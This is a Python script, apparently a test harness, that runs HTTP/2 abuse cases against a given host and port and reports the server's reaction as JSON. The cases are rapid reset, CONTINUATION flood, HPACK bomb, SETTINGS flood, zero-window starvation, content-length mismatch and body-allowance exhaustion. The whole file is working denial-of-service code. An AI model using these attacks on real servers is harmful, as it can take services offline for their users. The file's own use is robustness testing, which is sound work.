#!/usr/bin/env python3
"""HTTP/2 abuse cases against a server speaking h2c with prior knowledge.

Usage: h2abuse.py HOST PORT CASE [SECONDS [repeat]]
CASE: rapid-reset, continuation-flood, hpack-bomb, cl-mismatch, settings-flood, zero-window,
refused-body.

Runs one case for at most SECONDS (default 5) and prints one JSON line saying what the server
did: GOAWAY error code, RST_STREAM codes, response statuses, whether it closed the connection,
frame counts. Well-formed frames are built with h2 (PyPI `h2`, Debian python3-h2); frames h2
refuses to build (endless CONTINUATION, header blocks that reference one entry thousands of
times, bodies that contradict content-length) are written by hand.
"""
import json
import socket
import struct
import sys
import time

import h2.config
import h2.connection
import hpack

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, PADDED, PRIORITY = 0x1, 0x4, 0x8, 0x20


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream & 0x7FFFFFFF) + payload


class Peer:
    """The socket plus a tally of what the server sent."""

    def __init__(self, host, port, seconds):
        self.deadline = time.monotonic() + seconds
        self.seconds = seconds
        self.sock = socket.create_connection((host, port), timeout=seconds)
        self.buffer = b""
        self.closed = False
        self.send_error = None
        self.frames = {}
        self.goaway = None
        self.rst = {}
        self.statuses = {}
        # The same per stream: {stream id: last RST_STREAM code}, {stream id: status}.
        self.stream_rst = {}
        self.stream_status = {}
        self.data_bytes = {}
        self.settings_acks = 0
        self.decoder = hpack.Decoder()
        self.decoder.max_allowed_table_size = 65536
        self.block = {}

    def send(self, data):
        if self.closed or self.send_error:
            return False
        try:
            self.sock.settimeout(max(0.01, self.deadline - time.monotonic()))
            self.sock.sendall(data)
            return True
        except OSError as error:  # reset, broken pipe, or a server that stopped reading
            self.send_error = type(error).__name__
            return False

    def read(self, until=None, wait=None):
        """Reads frames until the connection closes, `until(self)` holds, or `wait` seconds pass."""
        stop = self.deadline if wait is None else min(self.deadline, time.monotonic() + wait)
        while not self.closed and time.monotonic() < stop:
            if until is not None and until(self):
                return
            try:
                self.sock.settimeout(max(0.01, stop - time.monotonic()))
                chunk = self.sock.recv(65536)
            except socket.timeout:
                return
            except OSError:
                chunk = b""
            if not chunk:
                self.closed = True
                return
            self.buffer += chunk
            self.parse()

    def parse(self):
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[0:3], "big")
            if len(self.buffer) < 9 + length:
                return
            kind, flags = self.buffer[3], self.buffer[4]
            stream = int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
            payload = self.buffer[9:9 + length]
            self.buffer = self.buffer[9 + length:]
            self.frames[kind] = self.frames.get(kind, 0) + 1
            if kind == GOAWAY and len(payload) >= 8:
                self.goaway = int.from_bytes(payload[4:8], "big")
            elif kind == RST_STREAM and len(payload) == 4:
                code = int.from_bytes(payload, "big")
                self.rst[code] = self.rst.get(code, 0) + 1
                self.stream_rst[stream] = code
            elif kind == SETTINGS and flags & 0x1:
                self.settings_acks += 1
            elif kind == DATA:
                self.data_bytes[stream] = self.data_bytes.get(stream, 0) + length
            elif kind in (HEADERS, CONTINUATION):
                if kind == HEADERS:
                    if flags & PADDED:
                        payload = payload[1:len(payload) - payload[0]]
                    if flags & PRIORITY:
                        payload = payload[5:]
                self.block[stream] = self.block.get(stream, b"") + payload
                if flags & END_HEADERS:
                    fields = self.decoder.decode(self.block.pop(stream), raw=True)
                    for name, value in fields:
                        if name == b":status":
                            status = value.decode()
                            self.statuses[status] = self.statuses.get(status, 0) + 1
                            self.stream_status[stream] = status

    def result(self, case, **extra):
        names = {DATA: "DATA", HEADERS: "HEADERS", RST_STREAM: "RST_STREAM", SETTINGS: "SETTINGS", PING: "PING",
                 GOAWAY: "GOAWAY", WINDOW_UPDATE: "WINDOW_UPDATE", CONTINUATION: "CONTINUATION"}
        out = {
            "case": case,
            "goaway": self.goaway,
            "rst": {str(k): v for k, v in sorted(self.rst.items())},
            "statuses": self.statuses,
            "closed": self.closed,
            "send_error": self.send_error,
            "settings_acks": self.settings_acks,
            "frames": {names.get(k, str(k)): v for k, v in sorted(self.frames.items())},
        }
        out.update(extra)
        return out


def client(peer):
    config = h2.config.H2Configuration(client_side=True, header_encoding=None)
    conn = h2.connection.H2Connection(config=config)
    conn.initiate_connection()
    peer.send(conn.data_to_send())
    return conn


def request(authority, method, path, extra=()):
    return [(b":method", method), (b":scheme", b"http"), (b":authority", authority), (b":path", path)] + list(extra)


def rapid_reset(peer, authority, count=2000):
    """Opens `count` slow streams and resets each at once, in batches, reading as it goes."""
    conn = client(peer)
    opened = 0
    batch = b""
    for i in range(count):
        stream = 1 + 2 * i
        # h2 tracks the server's MAX_CONCURRENT_STREAMS; a reset stream is closed so never counts.
        conn.send_headers(stream, request(authority, b"GET", b"/sleep.php?s=1"), end_stream=True)
        conn.reset_stream(stream, error_code=8)  # CANCEL
        batch += conn.data_to_send()
        opened += 1
        if len(batch) > 16384:
            if not peer.send(batch):
                break
            batch = b""
            peer.read(wait=0)
            if peer.closed or peer.goaway is not None:
                break
    if batch:
        peer.send(batch)
    peer.read(until=lambda p: p.goaway is not None, wait=2)
    return {"opened": opened}


def continuation_flood(peer, authority, count=100000):
    """HEADERS without END_HEADERS, then small CONTINUATION frames that never end the block."""
    client(peer)
    encoder = hpack.Encoder()
    head = encoder.encode(request(authority, b"GET", b"/status.php?code=200"))
    peer.send(frame(HEADERS, END_STREAM, 1, head))
    field = b"\x00\x01x\x01y"  # literal without indexing, "x: y"
    sent = 0
    batch = b""
    for _ in range(count):
        batch += frame(CONTINUATION, 0, 1, field)
        sent += 1
        if len(batch) >= 16384:
            if not peer.send(batch):
                break
            batch = b""
            peer.read(wait=0)
            if peer.closed:
                break
    peer.send(batch)
    peer.read(wait=2)
    return {"continuations_sent": sent}


def hpack_bomb(peer, authority, references=12000):
    """A 4000-byte literal added to the dynamic table, then referenced `references` times in the
    same header block (each reference: one byte on the wire, ~4 KB of header list)."""
    client(peer)
    encoder = hpack.Encoder()
    block = encoder.encode(request(authority, b"GET", b"/status.php?code=200"))
    value = b"b" * 4000
    # Literal with incremental indexing, new name: it becomes dynamic table index 62.
    block += b"\x40" + bytes([6]) + b"x-bomb" + b"\x7f" + encode_int(len(value) - 127) + value
    block += b"\xbe" * references  # indexed field 62
    first, rest = block[:16384], block[16384:]
    payload = frame(HEADERS, END_STREAM | (END_HEADERS if not rest else 0), 1, first)
    while rest:
        piece, rest = rest[:16384], rest[16384:]
        payload += frame(CONTINUATION, END_HEADERS if not rest else 0, 1, piece)
    peer.send(payload)
    peer.read(until=lambda p: p.statuses or p.rst or p.goaway is not None, wait=3)
    return {"inflated_bytes": references * (6 + len(value) + 32), "wire_bytes": len(block)}


def encode_int(n):
    """HPACK integer continuation bytes (after a prefix that was all ones)."""
    out = b""
    while n >= 128:
        out += bytes([(n % 128) + 128])
        n //= 128
    return out + bytes([n])


def cl_mismatch(peer, authority):
    """POST with content-length: 10 and 20 bytes of DATA."""
    client(peer)
    encoder = hpack.Encoder()
    head = encoder.encode(request(authority, b"POST", b"/post.php",
                                  [(b"content-type", b"application/octet-stream"), (b"content-length", b"10")]))
    peer.send(frame(HEADERS, END_HEADERS, 1, head) + frame(DATA, END_STREAM, 1, b"0123456789abcdefghij"))
    peer.read(until=lambda p: (p.rst or p.goaway is not None or
                               any(s != "200" for s in p.statuses) or p.data_bytes.get(1, 0) > 0), wait=3)
    # A 200 would only be acceptable if it did not carry 20 bytes to the backend: read its body.
    peer.read(wait=0.5)
    body = peer.data_bytes.get(1, 0)
    return {"response_body_bytes": body}


def settings_flood(peer, authority, count=200000):
    """Thousands of SETTINGS frames (one entry each) written without reading the ACKs."""
    client(peer)
    one = frame(SETTINGS, 0, 0, struct.pack(">HI", 0x3, 100))  # MAX_CONCURRENT_STREAMS = 100
    sent = 0
    chunk = one * 2048
    while sent < count and time.monotonic() < peer.deadline - 1:
        if not peer.send(chunk):
            break
        sent += 2048
    peer.read(wait=3)
    return {"settings_sent": sent}


def zero_window(peer, authority, streams=20):
    """SETTINGS_INITIAL_WINDOW_SIZE = 0, then `streams` large downloads whose windows never open;
    PINGs are answered (the connection is alive), the streams never take a byte."""
    peer.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, 0)))
    encoder = hpack.Encoder()
    for i in range(streams):
        block = encoder.encode(request(authority, b"GET", b"/big.php?mb=8"))
        peer.send(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, block))
    pings = 0
    while not peer.closed and time.monotonic() < peer.deadline - 0.5:
        before = peer.frames.get(PING, 0)
        peer.read(wait=0.2)
        for _ in range(peer.frames.get(PING, 0) - before):
            pings += 1
            peer.send(frame(PING, 0x1, 0, b"\0" * 8))
        if sum(peer.rst.values()) >= streams:
            break
    return {"streams": streams, "reset_after": round(time.monotonic() - (peer.deadline - peer.seconds), 3)}


def refused_body(peer, authority, fill=2, piece=32768):
    """Bodies that use the connection's allowance, then one more: with `connection_spill` =
    `fill` × `piece` and `body_buffer_size = 0`, `fill` POSTs without END_STREAM each send
    `piece` bytes, and the next POST's first DATA finds no room. Then the first ones end, and a
    GET follows on the same connection."""
    peer.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
    # The server's SETTINGS and the WINDOW_UPDATE that opens its connection window beyond 64 KiB.
    peer.read(until=lambda p: p.frames.get(WINDOW_UPDATE, 0) > 0, wait=1)
    encoder = hpack.Encoder()
    post = request(authority, b"POST", b"/post.php", [(b"content-type", b"application/octet-stream")])
    filling = [1 + 2 * i for i in range(fill)]
    for stream in filling:
        peer.send(frame(HEADERS, END_HEADERS, stream, encoder.encode(post)))
        for offset in range(0, piece, 16384):
            peer.send(frame(DATA, 0, stream, b"f" * min(16384, piece - offset)))
    # Let the proxy take all of it before the stream that finds no room.
    peer.read(wait=0.5)
    extra = 1 + 2 * fill
    peer.send(frame(HEADERS, END_HEADERS, extra, encoder.encode(post)) + frame(DATA, 0, extra, b"x" * 100))
    peer.read(until=lambda p: extra in p.stream_rst or extra in p.stream_status or p.goaway is not None, wait=3)
    refused_rst = peer.stream_rst.get(extra)
    refused_status = peer.stream_status.get(extra)
    # The connection goes on: the filling streams end, and a GET is answered.
    for stream in filling:
        peer.send(frame(DATA, END_STREAM, stream))
    get = extra + 2
    peer.send(frame(HEADERS, END_STREAM | END_HEADERS, get,
                    encoder.encode(request(authority, b"GET", b"/status.php?code=200"))))
    peer.read(until=lambda p: all(s in p.stream_status for s in filling + [get]), wait=5)
    return {
        "refused_rst": refused_rst,
        "refused_status": refused_status,
        "filling_statuses": [peer.stream_status.get(s) for s in filling],
        "filling_rst": [peer.stream_rst.get(s) for s in filling],
        "get_status": peer.stream_status.get(get),
    }


CASES = {
    "rapid-reset": rapid_reset,
    "continuation-flood": continuation_flood,
    "hpack-bomb": hpack_bomb,
    "cl-mismatch": cl_mismatch,
    "settings-flood": settings_flood,
    "zero-window": zero_window,
    "refused-body": refused_body,
}


def main():
    if len(sys.argv) < 4 or sys.argv[3] not in CASES:
        print("usage: h2abuse.py HOST PORT CASE [SECONDS [repeat]]; CASE: " + ", ".join(CASES), file=sys.stderr)
        return 2
    host, port, case = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    seconds = float(sys.argv[4]) if len(sys.argv) > 4 else 5.0
    started = time.monotonic()
    # Each case runs on one connection; with REPEAT, on fresh connections until SECONDS passed
    # (the first connection's result is reported, plus how every connection ended).
    repeat = len(sys.argv) > 5 and sys.argv[5] == "repeat"
    first = None
    outcomes = {}
    connections = 0
    while True:
        peer = Peer(host, port, max(2.0, seconds - (time.monotonic() - started)) if repeat else seconds)
        extra = CASES[case](peer, f"{host}:{port}".encode())
        peer.sock.close()
        connections += 1
        one = peer.result(case, **extra)
        outcome = "goaway=%s closed=%s statuses=%s rst=%s" % (
            one["goaway"], one["closed"] or one["send_error"] is not None, sorted(one["statuses"]), sorted(one["rst"]))
        outcomes[outcome] = outcomes.get(outcome, 0) + 1
        first = first or one
        if not repeat or time.monotonic() - started > seconds - 2.0:
            break
    first["connections"] = connections
    first["outcomes"] = outcomes
    first["seconds"] = round(time.monotonic() - started, 3)
    print(json.dumps(first, sort_keys=True))
    return 0


if __name__ == "__main__":
    sys.exit(main())
